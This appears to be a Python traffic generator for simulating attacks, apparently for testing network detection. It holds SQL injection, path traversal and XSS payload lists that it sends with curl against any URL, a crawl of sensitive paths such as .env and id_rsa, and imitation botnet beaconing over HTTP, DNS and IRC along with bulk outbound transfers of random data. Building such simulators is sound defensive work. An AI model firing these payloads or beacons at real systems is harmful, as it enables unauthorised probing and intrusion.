#!/usr/bin/env python3
"""Small hostile programs, where no ordinary one does the job.

hostile.py probe injection|traversal|scripting|crawl URL --seconds S --seed N
hostile.py beacon http|dns|irc ADDRESS PORT --seconds S --seed N [--every S]
hostile.py carry ADDRESS PORT --seed N       (data going out)
hostile.py control PORT                       (answers beacons over UDP)
"""

import argparse
import contextlib
import http.client
import os
import random
import socket
import subprocess
import time
import urllib.parse

INJECTIONS = [
    "' OR '1'='1",
    "1' OR 1=1--",
    "' UNION SELECT 1,name,3,password FROM customer--",
    "'; DROP TABLE x;--",
    "' AND SLEEP(5)--",
    "1 AND 1=2",
    "') OR ('a'='a",
    "' UNION SELECT NULL,NULL,NULL,NULL--",
    "admin'--",
    "' UNION SELECT 1,sql,3,4 FROM sqlite_master--",
    "1' ORDER BY 9--",
    '" OR ""="',
    "' OR name LIKE '%a%",
    "' AND (SELECT count(*) FROM customer) > 10--",
    "1;SELECT randomblob(9000)",
]
TRAVERSALS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/shadow",
    "%2e%2e/%2e%2e/boot.ini",
    "..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "php://filter/resource=index",
    "file:///etc/hosts",
    "../../../../var/log/auth.log",
    "..%252f..%252fetc%252fpasswd",
    "/etc/passwd%00.jpg",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(document.cookie)>",
    "javascript:alert(1)",
    "<iframe src=//x.example>",
    "'-alert(1)-'",
    "<body onload=alert(1)>",
    "%3Cscript%3E1%3C/script%3E",
]
CRAWLED = (
    "admin wp-login.php phpmyadmin .git/config .env backup.zip config.php.bak server-status cgi-bin/test.cgi "
    "manager/html api/v1/users robots.txt sitemap.xml old test dev staging uploads include/db.inc shell.php "
    "login.jsp actuator/health console solr/admin xmlrpc.php .svn/entries .DS_Store id_rsa dump.sql"
).split()


def probe(options, chance):
    """One curl after another, each a new connection, as simple probing scripts do."""
    end = time.monotonic() + options.seconds
    agent = chance.choice(["curl/7.88.1", "python-requests/2.31", "Mozilla/5.0 zgrab/0.x", "sqlmap/1.7"])
    while time.monotonic() < end:
        match options.kind:
            case "injection":
                path = "/search?q=" + urllib.parse.quote(chance.choice(INJECTIONS))
            case "scripting":
                path = "/search?q=" + urllib.parse.quote(chance.choice(SCRIPTS))
            case "traversal":
                path = chance.choice(["/assets/", "/download/", "/image?file="]) + chance.choice(TRAVERSALS)
            case _:
                path = "/" + chance.choice(CRAWLED)
        command = ["curl", "-sgk", "--path-as-is", "-m", "8", "-A", agent, "-o", "/dev/null"]
        if chance.random() < 0.25:
            command += ["--data", "user=" + urllib.parse.quote(chance.choice(INJECTIONS)) + "&password=x"]
            path = "/login"
        subprocess.run([*command, options.url + path], check=False, timeout=10)
        time.sleep(chance.uniform(0.02, 0.25))


def beacon(options, chance):
    """Calls home again and again, with some jitter, and now and then fetches an order."""
    end = time.monotonic() + options.seconds
    bot = f"{chance.getrandbits(48):012x}"
    while time.monotonic() < end:
        try:
            if options.kind == "http":
                line = http.client.HTTPConnection(options.address, options.port, timeout=6)
                line.request("POST", "/gate", body=f"id={bot}&s=" + os.urandom(chance.randrange(20, 90)).hex())
                line.getresponse().read()
                line.close()
            elif options.kind == "dns":
                family = socket.AF_INET6 if ":" in options.address else socket.AF_INET
                with socket.socket(family, socket.SOCK_DGRAM) as line:
                    line.settimeout(2)
                    for _ in range(chance.choice([1, 1, 1, 2, 4])):
                        labels = [os.urandom(chance.randrange(14, 30)).hex() for _ in range(3)] + [
                            bot,
                            "example",
                        ]
                        name = b"".join(bytes([len(p)]) + p.encode() for p in labels) + b"\0"
                        line.sendto(
                            os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + b"\0\x10\0\1",
                            (options.address, options.port),
                        )
                        line.recv(2048)
            else:
                chat(options, chance, bot, min(end, time.monotonic() + chance.uniform(4, 12)))
        except (OSError, http.client.HTTPException):
            pass
        time.sleep(options.every * chance.uniform(0.8, 1.2))


def chat(options, chance, bot, end):
    with socket.create_connection((options.address, options.port), timeout=10) as line:
        line.settimeout(1)
        line.sendall(f"NICK {bot}\r\nJOIN #bots\r\n".encode())
        while time.monotonic() < end:
            line.sendall(b"PING " + bot.encode() + b"\r\n")
            with contextlib.suppress(TimeoutError):
                line.recv(4096)
            time.sleep(options.every * chance.uniform(0.7, 1.3))


def carry(options, chance):
    """Sends a few megabytes in uneven blocks."""
    with socket.create_connection((options.address, options.port), timeout=10) as line:
        for _ in range(chance.randrange(20, 60)):
            line.sendall(os.urandom(chance.randrange(4_000, 30_000)))
            time.sleep(chance.uniform(0.01, 0.2))


def control(options):
    """Answers every datagram with a short one."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as line:
        line.bind(("::", options.port))
        while True:
            data, sender = line.recvfrom(4096)
            line.sendto(data[:12] + os.urandom(random.randrange(20, 160)), sender)


def main():
    parser = argparse.ArgumentParser()
    modes = parser.add_subparsers(dest="mode", required=True)
    probing = modes.add_parser("probe")
    probing.add_argument("kind", choices=["injection", "traversal", "scripting", "crawl"])
    probing.add_argument("url")
    beaconing = modes.add_parser("beacon")
    beaconing.add_argument("kind", choices=["http", "dns", "irc"])
    beaconing.add_argument("--every", type=float, default=2.0)
    carrying = modes.add_parser("carry")
    for mode in (beaconing, carrying):
        mode.add_argument("address")
        mode.add_argument("port", type=int)
    modes.add_parser("control").add_argument("port", type=int)
    for mode in (probing, beaconing):
        mode.add_argument("--seconds", type=float, required=True)
    for mode in (probing, beaconing, carrying):
        mode.add_argument("--seed", required=True)
    options = parser.parse_args()
    if options.mode == "control":
        control(options)
    else:
        {"probe": probe, "beacon": beacon, "carry": carry}[options.mode](options, random.Random(options.seed))


if __name__ == "__main__":
    main()
